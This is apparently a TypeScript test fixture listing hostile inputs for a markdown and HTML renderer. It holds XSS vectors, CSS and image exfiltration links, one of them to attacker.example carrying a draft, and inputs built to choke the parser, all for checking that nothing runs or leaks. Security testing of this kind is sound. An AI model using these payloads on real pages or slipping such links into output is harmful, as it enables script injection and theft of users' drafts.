// Hostile content: what a model reply, a pasted draft, a template or an imported archive could carry to run code
// in Ami's window or to carry the draft away. Every payload that ran would set window.__pwned (or its parent's) or
// fetch a URL under `leakBase`, so a test only has to watch that flag and the network.

export interface HostilePayload {
  name: string;
  text: string;
  /** A piece of the payload that must be visible as plain text wherever it is shown. */
  visible: string;
}

/** The payloads, with exfiltration URLs pointing under leakBase (e.g. `http://127.0.0.1:PORT/leak`). */
export function hostilePayloads(leakBase: string): HostilePayload[] {
  const pwn = 'window.__pwned=1';
  const list: HostilePayload[] = [
    { name: 'script tag', text: `<script>${pwn}</script>`, visible: `<script>${pwn}</script>` },
    { name: 'img onerror', text: `<img src=x onerror="${pwn}">`, visible: 'onerror=' },
    { name: 'event handler on a div', text: `<div onmouseover="${pwn}" style="position:fixed;inset:0">hover me</div>`, visible: 'onmouseover=' },
    { name: 'details ontoggle', text: `<details open ontoggle="${pwn}"><summary>x</summary></details>`, visible: 'ontoggle=' },
    { name: 'markdown javascript: link', text: `[click me](javascript:${pwn})`, visible: 'click me' },
    { name: 'markdown javascript: link, mixed case and entity', text: `[case](JaVaScRiPt:${pwn}) [entity](&#106;avascript:${pwn})`, visible: 'entity' },
    { name: 'markdown vbscript: link', text: `[vb](vbscript:msgbox(1))`, visible: 'vb' },
    { name: 'markdown autolink javascript:', text: `<javascript:${pwn}>`, visible: 'javascript:' },
    {
      name: 'markdown data: link',
      text: `[data link](data:text/html;base64,${Buffer.from(`<script>${pwn}</script>`).toString('base64')})`,
      visible: 'data link',
    },
    { name: 'html javascript: link', text: `<a href="javascript:${pwn}">html link</a>`, visible: '<a href=' },
    { name: 'iframe srcdoc', text: `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`, visible: '<iframe' },
    { name: 'iframe javascript: src', text: `<iframe src="javascript:parent.__pwned=1"></iframe>`, visible: '<iframe' },
    { name: 'object and embed', text: `<object data="javascript:${pwn}"></object><embed src="javascript:${pwn}">`, visible: '<object' },
    { name: 'svg onload and script', text: `<svg onload="${pwn}"><script>${pwn}</script></svg>`, visible: '<svg onload=' },
    { name: 'form action', text: `<form action="javascript:${pwn}"><button>send</button></form>`, visible: '<form' },
    { name: 'meta refresh', text: `<meta http-equiv="refresh" content="0;url=javascript:${pwn}">`, visible: 'http-equiv' },
    { name: 'style import', text: `<style>@import url("${leakBase}/style");</style>`, visible: '@import' },
    { name: 'link stylesheet', text: `<link rel="stylesheet" href="${leakBase}/link">`, visible: '<link' },
    { name: 'hostile code-fence language', text: '```"><img src=x onerror=window.__pwned=1>\nlet x = 1;\n```', visible: 'let x = 1;' },
    { name: 'code fence with script inside', text: "```html\n<script>window.__pwned=1</script>\n```", visible: '<script>window.__pwned=1</script>' },
    { name: 'exfiltration image, local', text: `![secret](${leakBase}/img?draft=the-whole-draft)`, visible: 'secret' },
    { name: 'exfiltration image, reference style', text: `![ref][leak]\n\n[leak]: ${leakBase}/ref?d=1`, visible: 'ref' },
    { name: 'exfiltration image, remote', text: '![remote](https://attacker.example/collect.png?d=the-whole-draft)', visible: 'remote' },
    { name: 'exfiltration image, raw html', text: `<img src="${leakBase}/raw">`, visible: '<img src=' },
    { name: 'plain http link to the leak', text: `[read more](${leakBase}/link-click)`, visible: 'read more' },
    { name: 'https link', text: '[a safe page](https://example.com/page)', visible: 'a safe page' },
    { name: 'unclosed fence', text: '```js\n<script>window.__pwned=1</script>\nthe fence never closes', visible: 'the fence never closes' },
    { name: 'deep blockquote nesting', text: `${'>'.repeat(5000)} deep quote`, visible: 'deep quote' },
    { name: 'deep list nesting', text: Array.from({ length: 400 }, (_, i) => `${'  '.repeat(i)}- level ${i}`).join('\n'), visible: 'level 0' },
    { name: 'many open brackets', text: `${'['.repeat(20_000)}brackets`, visible: 'brackets' },
    { name: '100k-character line', text: `${'A'.repeat(100_000)} end of the long line`, visible: 'end of the long line' },
    { name: 'emphasis storm', text: `${'*_'.repeat(10_000)}storm`, visible: 'storm' },
  ];
  return list;
}

/** Every payload in one text, separated so that each starts a block of its own. */
export function allPayloads(leakBase: string): string {
  return hostilePayloads(leakBase)
    .map((p) => p.text)
    .join('\n\n\n');
}
